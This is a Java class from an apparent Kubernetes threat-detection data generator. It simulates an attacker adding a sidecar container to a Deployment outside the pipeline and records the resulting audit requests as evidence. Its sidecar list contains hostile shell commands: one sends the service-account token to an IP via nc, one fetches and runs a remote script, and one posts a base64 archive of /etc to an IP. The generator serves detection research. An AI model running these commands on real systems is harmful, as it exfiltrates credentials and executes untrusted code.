package io.chainwatch.generate;

import io.chainwatch.generate.ClusterProfile.App;

import static io.chainwatch.generate.Obj.arr;
import static io.chainwatch.generate.Obj.of;
import static io.chainwatch.generate.TrafficModel.S;

/**
 * Sidecar injection outside the pipeline (S27; Microsoft's threat matrix "Sidecar injection", MS-TA9011, T1610):
 * a developer's credentials are used to read an application's Deployment and add a container to its pod template
 * with a strategic-merge patch ({@code kubectl patch} or {@code kubectl edit}), or to replace the whole object
 * ({@code kubectl replace}, an update). The sidecar passes the restricted pod-security profile of the namespace
 * and ships the pod's service-account token or secrets out. The deployment controller then creates the new
 * ReplicaSet, and the replicaset controller rolls the pods (the new ones carry the sidecar). Evidence: the
 * Deployment write, the new ReplicaSet.
 */
final class SidecarInjectionScenario implements Scenario {
    static final String[][] SIDECARS = {
            {"log-shipper", "docker.io/fluent/fluent-bit:3.1", "while true; do cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 45.9.148.35 4444; sleep 600; done"},
            {"metrics-proxy", "ghcr.io/obs-tools/metrics-proxy:v0.9.1", "curl -s http://updates.cloud-telemetry.net/p.sh | sh"},
            {"istio-proxy", "docker.io/istio-mirror/proxyv2:1.23.2", "sleep infinity"},
            {"config-reloader", "docker.io/library/busybox:1.36", "while true; do tar cz /etc | base64 | wget -qO- --post-data=@- http://185.193.127.21/u; sleep 900; done"}};

    @Override
    public String name() {
        return "sidecar-injection";
    }

    @Override
    public String patternId() {
        return "workload-containers-changed-outside-pipeline-then-rolled-out";
    }

    @Override
    public String description() {
        return "a container added to an app's Deployment by a user outside the pipeline, then its new ReplicaSet rolls out";
    }

    @Override
    public void inject(ScenarioContext c, long t) {
        Rng r = c.rng;
        ClusterProfile p = c.profile;
        App app = AttackRequests.changeableApp(c, "sidecar/");
        if (app == null) {
            return;
        }
        String ns = app.namespace;
        Identity me = c.attacker(ns + "-devs", ClusterProfile.rbacReason("RoleBinding", ns + "-devs-edit/" + ns, "ClusterRole",
                "edit", "Group", p.groupName(ns + "-devs")));
        long at = t;
        if (r.chance(0.6)) {
            c.submit(c.request(me, at, "list", Res.DEPLOYMENTS, ns, null, null).uri("?limit=500"));
            at += r.range(4 * S, 40 * S);
        }
        c.submit(c.request(me, at, "get", Res.DEPLOYMENTS, ns, app.name, null));
        at += r.range(20 * S, 200 * S);

        String[] s = r.pick(SIDECARS);
        Obj sidecar = of("name", s[0], "image", s[1], "command", arr("sh", "-c", s[2]),
                "resources", of("requests", of("cpu", "10m", "memory", "16Mi")),
                "securityContext", of("allowPrivilegeEscalation", false, "runAsNonRoot", true,
                        "capabilities", of("drop", arr("ALL"))),
                "volumeMounts", arr(of("name", "tls", "mountPath", "/etc/" + app.name + "/tls", "readOnly", true)));
        app.sidecar = sidecar;
        app.revision++;
        double how = r.nextDouble();
        Obj response = Workloads.deployment(c.sim, app, app.gitopsManaged ? p.gitopsKind : "Helm");
        Request write;
        if (how < 0.7) {
            // kubectl patch / edit: strategic merge; the containers list merges on name
            Obj patch = of("spec", of("template", of("spec", of("$setElementOrder/containers",
                    arr(of("name", app.name), of("name", s[0])), "containers", arr(sidecar)))));
            write = c.request(me, at, "patch", Res.DEPLOYMENTS, ns, app.name, null)
                    .uri(how < 0.4 ? "?fieldManager=kubectl-patch" : "?fieldManager=kubectl-edit").bodies(patch, response);
        } else {
            // kubectl replace -f: the whole object, the template with both containers
            write = c.request(me, at, "update", Res.DEPLOYMENTS, ns, app.name, null)
                    .uri("?fieldManager=kubectl-replace&fieldValidation=Strict").bodies(response, response);
        }
        c.evidence(write);
        Workloads.rollout(c.sim, r, at + r.range(20_000, 200_000), app, c::submit, c::evidence);
        if (r.chance(0.5)) {
            at += r.range(60 * S, 180 * S);
            c.submit(c.request(me, at, "get", Res.PODS, ns, app.pods.get(0).name, null));
        }
    }
}
